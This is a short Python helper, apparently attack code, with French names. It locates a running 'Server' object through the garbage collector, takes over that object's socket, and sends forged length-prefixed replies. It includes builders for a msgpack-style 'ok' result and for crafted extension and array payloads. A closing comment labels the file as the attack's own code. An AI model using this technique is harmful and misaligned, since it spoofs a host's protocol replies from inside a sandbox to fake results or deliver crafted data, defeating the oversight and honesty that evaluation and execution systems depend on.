# Sends bytes of its own as the reply, and builds what a frame may hold.
import gc, struct
def envoie(octets, entete=None):
    s = [o for o in gc.get_objects() if type(o).__name__ == "Server" and o.sock.fileno() >= 0][0]
    trame = b"R" + s.nonce + octets
    s.sock.sendall((struct.pack(">I", len(trame)) if entete is None else entete) + trame)
def ok(octets):
    """["ok", (octets, [0], "")]"""
    t = b"\x93" + octets + b"\x91\x00\xa0"
    return b"\x92\xa2ok" + ext(1, t)
def ext(code, octets):
    return b"\xc9" + struct.pack(">Ib", len(octets), code) + octets
def tableau(code, tailles, octets):
    return ext(4, bytes([code, len(tailles)]) + struct.pack(f">{len(tailles)}I", *tailles) + octets)
def un(liste, x):
    return liste[int(abs(float(x))) % len(liste)]

# the attack's own code
